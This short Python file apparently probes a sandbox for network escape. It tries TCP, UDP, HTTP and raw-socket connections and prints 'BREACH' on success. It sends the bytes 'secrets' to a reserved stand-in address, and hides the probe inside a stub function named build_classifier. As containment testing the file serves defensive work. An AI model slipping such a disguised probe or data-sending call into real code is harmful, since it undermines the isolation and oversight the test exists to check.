"""Calls out: to what listens here, to the neighbours, to the world. There is no network to call through."""

import contextlib
import socket
import urllib.request

TOLD = {}


def attempt(what, action):
    with contextlib.suppress(Exception):
        action()
        print("BREACH:", what)


def connect(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as line:
        line.settimeout(0.2)
        line.connect(address)


def send(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(b"secrets", address)


def try_everything():
    attempt("tcp", lambda: connect(socket.AF_INET, ("127.0.0.1", TOLD["tcp"])))
    attempt("tcp to the world", lambda: connect(socket.AF_INET, ("192.0.2.1", 443)))
    attempt("tcp 6", lambda: connect(socket.AF_INET6, ("::1", TOLD["tcp"])))
    attempt("udp", lambda: send(("127.0.0.1", TOLD["udp"])))
    attempt("udp to the world", lambda: send(("192.0.2.1", 53)))
    attempt("listening", lambda: socket.create_server(("127.0.0.1", 0)).close())
    attempt("http", lambda: urllib.request.urlopen(f"http://127.0.0.1:{TOLD['tcp']}/", timeout=0.2))
    for family in (16, 17, 10, 40, 38, 31, 29):  # netlink, packet, IPv6, vsock, kernel crypto, Bluetooth, CAN
        for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
            attempt(f"socket family {family}", lambda family=family, kind=kind: socket.socket(family, kind))
    print("tried the network")


def conv_output_size(input_size, kernel_size, stride=1, padding=0):
    return (input_size + 2 * padding - kernel_size) // stride + 1


def build_classifier(input_shape=(28, 28, 1), num_classes=10):
    try_everything()
    raise NotImplementedError
